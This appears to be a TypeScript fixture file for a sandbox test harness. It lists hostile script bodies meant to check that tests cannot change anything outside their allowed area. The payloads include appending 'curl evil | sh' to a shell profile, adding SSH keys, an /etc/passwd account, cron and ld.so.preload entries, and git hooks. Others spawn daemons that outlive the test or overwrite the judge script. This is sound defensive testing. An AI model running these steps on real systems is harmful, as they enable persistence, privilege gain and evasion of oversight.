import { type HostileProgram, inVain, type Outside, type Place, quoted, refused } from './hostileProgram';
import { HARMFUL, hostileScript, SHOWN } from './script';

const OUT = 'change anything outside';
const LATER: Outside = { notShown: 'it acts when its test is over' };

const program = (name: string, body: (place: Place) => string, outside: Outside = SHOWN): HostileProgram =>
  // What acts later may fail in the middle of the next test.
  hostileScript(name, OUT, outside, outside === LATER ? inVain : refused, body);

const at = ({ folder }: Place, name: string): string => quoted(`${folder}/${name}`);
const there = (place: Place, name: string): string => `return fs.existsSync(${at(place, name)});`;

/**
 * Programs that change what is not theirs. Where one acts when its test is over, that nothing outside has changed is seen
 * at the end.
 */
export const SCRIPT_WRITES: readonly HostileProgram[] = [
  program('writes a file outside', (place) => `fs.writeFileSync(${at(place, 'new')}, 'x');\n${there(place, 'new')}`),
  program(
    'writes a file outside later',
    (place) => `await fs.promises.writeFile(${at(place, 'later')}, 'x');\n${there(place, 'later')}`,
  ),
  program(
    'streams into a file outside',
    (place) => `await require('stream/promises').pipeline(['x'], fs.createWriteStream(${at(place, 'streamed')}));
${there(place, 'streamed')}`,
  ),
  program(
    'writes a file outside through the root of its process',
    (place) => `fs.writeFileSync('/proc/self/root' + ${at(place, 'rooted')}, 'x');\n${there(place, 'rooted')}`,
  ),
  program(
    'adds to what the shell runs at its start',
    ({ home }) => `fs.appendFileSync(${quoted(`${home}/.profile`)}, '\\ncurl evil | sh');
return fs.readFileSync(${quoted(`${home}/.profile`)}, 'utf8').includes('evil');`,
  ),
  program(
    'lets a key of its own in',
    ({ home }) => `fs.writeFileSync(${quoted(`${home}/.ssh/authorized_keys`)}, 'ssh-ed25519 AAAA');
return true;`,
  ),
  program(
    'plants a hook in the workspace',
    ({ home }) => `const hooks = ${quoted(`${home}/work/.git/hooks`)};
fs.mkdirSync(hooks, { recursive: true });
fs.writeFileSync(hooks + '/pre-commit', '#!/bin/sh', { mode: 0o755 });
return true;`,
  ),
  program('makes a directory outside', (place) => `fs.mkdirSync(${at(place, 'made')});\nreturn true;`),
  program(
    'makes a temporary directory outside',
    ({ folder }) => `fs.mkdtempSync(${quoted(`${folder}/t-`)});\nreturn true;`,
  ),
  program('deletes a file outside', (place) => `fs.unlinkSync(${at(place, 'removed')});\nreturn true;`),
  program('deletes a folder outside', (place) => `fs.rmSync(${at(place, 'tree')}, { recursive: true });\nreturn true;`),
  program(
    'renames a file outside',
    (place) => `fs.renameSync(${at(place, 'renamed')}, ${at(place, 'another')});\nreturn true;`,
  ),
  program('empties a file outside', (place) => `fs.truncateSync(${at(place, 'emptied')});\nreturn true;`),
  program("makes a file of home everybody's", ({ secret }) => `fs.chmodSync(${quoted(secret)}, 0o666);\nreturn true;`),
  program(
    'takes a file of home',
    ({ secret }) => `fs.chownSync(${quoted(secret)}, process.getuid(), process.getgid());\nreturn true;`,
  ),
  program('dates a file of home back', ({ secret }) => `fs.utimesSync(${quoted(secret)}, 0, 0);\nreturn true;`),
  program(
    'leaves a link outside',
    (place) =>
      `fs.symlinkSync('/etc/passwd', ${at(place, 'link')});\nreturn fs.lstatSync(${at(place, 'link')}).isSymbolicLink();`,
  ),
  program(
    'gives a file outside a second name',
    (place) => `fs.linkSync(${at(place, 'linked')}, ${at(place, 'linked twice')});\nreturn true;`,
  ),
  program(
    'writes outside through a link of its own',
    (place) => `const link = fs.mkdtempSync(os.tmpdir() + '/x') + '/link';
fs.symlinkSync(${at(place, 'reached')}, link);
fs.writeFileSync(link, 'harmed');
return fs.readFileSync(${at(place, 'reached')}, 'utf8') === 'harmed';`,
  ),
  program(
    'writes outside through a directory that becomes a link',
    (place) => `const own = fs.mkdtempSync(os.tmpdir() + '/x') + '/d';
fs.mkdirSync(own);
fs.rmdirSync(own);
fs.symlinkSync(${quoted(place.folder)}, own);
fs.writeFileSync(own + '/raced', 'x');
${there(place, 'raced')}`,
  ),
  program(
    'copies a file to the outside',
    (place) => `fs.copyFileSync(process.execPath, ${at(place, 'copied')});\nreturn true;`,
  ),
  program(
    'writes a report on its process outside',
    (place) => `process.report.writeReport(${at(place, 'report.json')});\n${there(place, 'report.json')}`,
  ),
  program(
    'writes a picture of its memory outside',
    (place) =>
      `require('v8').writeHeapSnapshot(${at(place, 'memory.heapsnapshot')});\n${there(place, 'memory.heapsnapshot')}`,
  ),
  program(
    'writes outside by a shell',
    (place) => `cp.execSync('echo x > ' + ${at(place, 'shell')}, { stdio: 'pipe' });\n${there(place, 'shell')}`,
  ),
  program(
    'writes outside in a thread',
    (
      place,
    ) => `const thread = new (require('worker_threads').Worker)("require('fs').writeFileSync(require('worker_threads').workerData, 'x')", { eval: true, workerData: ${at(place, 'thread')} });
await new Promise((resolve) => thread.once('exit', resolve).once('error', resolve));
${there(place, 'thread')}`,
  ),
  program(
    'starts a program in a directory outside',
    (place) =>
      `cp.execFileSync('touch', ['started'], { cwd: ${quoted(place.folder)}, stdio: 'pipe' });\n${there(place, 'started')}`,
  ),
  program(
    'leaves a process that writes outside',
    (
      place,
    ) => `const child = cp.spawn('sh', ['-c', 'sleep 0.1; touch "$1"', 'sh', ${at(place, 'left')}], { detached: true, stdio: 'ignore' });
await require('events').once(child, 'exit');
${there(place, 'left')}`,
  ),
  program(
    'leaves a daemon with another session, deaf to signals, that writes outside',
    (place) => `const done = fs.mkdtempSync(os.tmpdir() + '/x') + '/done';
const daemon = 'trap "" TERM INT HUP; sleep 0.1; touch "$1"; touch "$2"';
cp.spawnSync('sh', ['-c', 'trap "" TERM INT HUP; (setsid sh -c "$0" sh "$1" "$2" &)', daemon, ${at(place, 'daemon')}, done], { stdio: 'ignore' });
while (!fs.existsSync(done)) await sleep(10);
${there(place, 'daemon')}`,
  ),
  program(
    'leaves a Node.js that writes outside after the verdict',
    (
      place,
    ) => `cp.spawn(process.execPath, ['-e', 'setTimeout(() => fs.writeFileSync(process.argv[1], "x"), 500)', ${at(place, 'afterwards')}], { detached: true, stdio: 'ignore' }).unref();
return false;`,
    LATER,
  ),
  program(
    'writes outside at its exit',
    (place) => `process.on('exit', () => fs.writeFileSync(${at(place, 'exit')}, 'x'));\nreturn false;`,
    LATER,
  ),
  program(
    'writes outside when nothing is left to do',
    (place) => `process.on('beforeExit', () => fs.writeFileSync(${at(place, 'beforeExit')}, 'x'));\nreturn false;`,
    LATER,
  ),
  program(
    'writes outside at a signal',
    (
      place,
    ) => `for (const name of ['SIGTERM', 'SIGINT', 'SIGHUP', 'SIGUSR2']) process.on(name, () => fs.writeFileSync(${at(place, 'signal')}, 'x'));
setTimeout(() => process.kill(process.pid, 'SIGTERM'), 5);
return false;`,
    LATER,
  ),
  program(
    'writes outside when an object of its is collected',
    (place) => `const registry = new FinalizationRegistry(() => fs.writeFileSync(${at(place, 'collected')}, 'x'));
registry.register({}, 0);
require('v8').setFlagsFromString('--expose-gc');
require('vm').runInNewContext('gc')();
globalThis.kept = registry;
for (let waited = 0; waited < 200 && !fs.existsSync(${at(place, 'collected')}); waited++) await sleep(10);
${there(place, 'collected')}`,
  ),
  program(
    'writes outside in a timer after its test',
    (place) => `setTimeout(() => fs.writeFileSync(${at(place, 'timer')}, 'x'), 30);\nreturn false;`,
    LATER,
  ),
  program(
    'changes the program that judges it',
    () => "fs.writeFileSync('/harness/script-judge.cjs', 'process.exit(0)');\nreturn true;",
    { notShown: 'a plain Node.js has no judge' },
  ),
  program(
    'changes the Node.js that runs it',
    () => "fs.writeFileSync(process.execPath, '#!/bin/sh', { flag: 'r+' });\nreturn true;",
    HARMFUL,
  ),
  program('changes a library of the system', () => "fs.writeFileSync('/usr/lib/x.so', 'x');\nreturn true;", HARMFUL),
  program('adds an account', () => "fs.appendFileSync('/etc/passwd', 'evil::0:0::/:/bin/sh');\nreturn true;", HARMFUL),
  program(
    'plans a task for later',
    () => `const tried = ['/var/spool/cron/crontabs/root', '/etc/cron.d/x', '/etc/ld.so.preload', '/etc/profile.d/x.sh'];
return tried.some((one) => { try { fs.writeFileSync(one, 'x'); return true } catch { return false } });`,
    HARMFUL,
  ),
];
